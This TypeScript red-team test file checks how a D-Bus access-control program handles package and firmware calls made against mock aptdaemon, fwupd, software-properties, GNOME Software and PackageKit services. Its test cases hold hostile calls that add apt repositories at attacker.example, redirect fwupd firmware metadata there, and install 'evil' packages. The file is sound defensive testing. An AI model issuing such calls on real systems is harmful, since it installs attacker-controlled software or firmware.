import { before, describe } from 'node:test';
import type { Mock, Program, World } from '../helpers/redteam.js';
import { attackTests, startAdHocMock, startProgram, startWorld } from '../helpers/redteam.js';

/**
 * Red team, class "packages and firmware", through the real program (low, `allow * * * * *`),
 * against ad-hoc aptdaemon, fwupd, software-properties, GNOME Software and PackageKit services
 * (docs/SECURITY-REVIEW.md "packages and firmware").
 */

const APTD = {
  bus: 'system',
  service: 'org.debian.apt',
  path: '/org/debian/apt',
  interface: 'org.debian.apt',
};

let world: World;
let program: Program;
const mocks: Record<string, Mock> = {};
const mock = (name: string) => () => mocks[name] as Mock;

before(async () => {
  world = await startWorld();
  const Y = world.system;
  mocks.aptd = await startAdHocMock(Y, 'org.debian.apt', '/org/debian/apt', 'org.debian.apt', [
    {
      interface: 'org.debian.apt',
      name: 'CommitPackages',
      inSig: 'asasasasasas',
      outSig: 's',
      code: 'ret = "/org/debian/apt/transaction/1"',
    },
    {
      interface: 'org.debian.apt',
      name: 'InstallFile',
      inSig: 'sb',
      outSig: 's',
      code: 'ret = "/org/debian/apt/transaction/2"',
    },
    {
      interface: 'org.debian.apt',
      name: 'AddRepository',
      inSig: 'sssasss',
      outSig: 's',
      code: 'ret = "/org/debian/apt/transaction/3"',
    },
    {
      interface: 'org.debian.apt',
      name: 'InstallPackages',
      inSig: 'as',
      outSig: 's',
      code: 'ret = "/org/debian/apt/transaction/4"',
    },
  ]);
  mocks.fwupd = await startAdHocMock(Y, 'org.freedesktop.fwupd', '/', 'org.freedesktop.fwupd', [
    { interface: 'org.freedesktop.fwupd', name: 'ModifyRemote', inSig: 'sss' },
    { interface: 'org.freedesktop.fwupd', name: 'Activate', inSig: 's' },
  ]);
  mocks.swprops = await startAdHocMock(
    Y,
    'com.ubuntu.SoftwareProperties',
    '/',
    'com.ubuntu.SoftwareProperties',
    [{ interface: 'com.ubuntu.SoftwareProperties', name: 'AddSourceFromLine', inSig: 's' }],
  );
  mocks.packagekit = await startAdHocMock(
    Y,
    'org.freedesktop.PackageKit',
    '/1_abc',
    'org.freedesktop.PackageKit.Transaction',
    [{ interface: 'org.freedesktop.PackageKit.Transaction', name: 'InstallPackages', inSig: 'tas' }],
  );
  mocks.software = await startAdHocMock(
    world.session,
    'org.gnome.Software',
    '/org/gnome/Software',
    'org.freedesktop.Application',
    [{ interface: 'org.freedesktop.Application', name: 'ActivateAction', inSig: 'sava{sv}' }],
  );
  program = await startProgram(world, { level: 'low' });
});

describe('redteam: packages and firmware through the program (low, allow * * * * *)', () => {
  attackTests(
    () => program,
    [
      {
        name: 'aptdaemon CommitPackages installs packages',
        mock: mock('aptd'),
        call: { ...APTD, method: 'CommitPackages', args: [['evil'], [], [], [], [], []] },
      },
      {
        name: 'aptdaemon InstallFile installs a local .deb, interface found by introspection',
        mock: mock('aptd'),
        call: {
          bus: 'system',
          service: 'org.debian.apt',
          path: '/org/debian/apt',
          method: 'InstallFile',
          args: ['/tmp/evil.deb', true],
        },
      },
      {
        name: 'aptdaemon AddRepository adds an apt source',
        mock: mock('aptd'),
        call: {
          ...APTD,
          method: 'AddRepository',
          args: ['deb', 'http://attacker.example/debian', 'stable', ['main'], '', ''],
        },
      },
      {
        name: 'fwupd ModifyRemote points the firmware metadata elsewhere',
        mock: mock('fwupd'),
        call: {
          bus: 'system',
          service: 'org.freedesktop.fwupd',
          path: '/',
          interface: 'org.freedesktop.fwupd',
          method: 'ModifyRemote',
          args: ['lvfs', 'MetadataURI', 'https://attacker.example/f.xml.gz'],
        },
      },
      {
        name: 'fwupd Activate applies a staged firmware update',
        mock: mock('fwupd'),
        call: {
          bus: 'system',
          service: 'org.freedesktop.fwupd',
          path: '/',
          interface: 'org.freedesktop.fwupd',
          method: 'Activate',
          args: ['0123456789abcdef'],
        },
      },
      {
        name: 'software-properties AddSourceFromLine (the service is installed on Debian 12 here)',
        mock: mock('swprops'),
        call: {
          bus: 'system',
          service: 'com.ubuntu.SoftwareProperties',
          path: '/',
          interface: 'com.ubuntu.SoftwareProperties',
          method: 'AddSourceFromLine',
          args: ['deb http://attacker.example/debian stable main'],
        },
      },
      {
        name: 'GNOME Software ActivateAction("install", [("org.example.Evil", 0)])',
        mock: mock('software'),
        call: {
          service: 'org.gnome.Software',
          path: '/org/gnome/Software',
          interface: 'org.freedesktop.Application',
          method: 'ActivateAction',
          args: ['install', [{ signature: '(su)', value: ['org.example.Evil', 0] }], {}],
        },
      },
      {
        name: 'PackageKit InstallPackages (refused today: regression guard)',
        mock: mock('packagekit'),
        call: {
          bus: 'system',
          service: 'org.freedesktop.PackageKit',
          path: '/1_abc',
          interface: 'org.freedesktop.PackageKit.Transaction',
          method: 'InstallPackages',
          args: [0, ['evil']],
        },
      },
      {
        name: 'aptdaemon InstallPackages (refused today by the global floor: regression guard)',
        mock: mock('aptd'),
        call: { ...APTD, method: 'InstallPackages', args: [['evil']] },
      },
    ],
  );
});
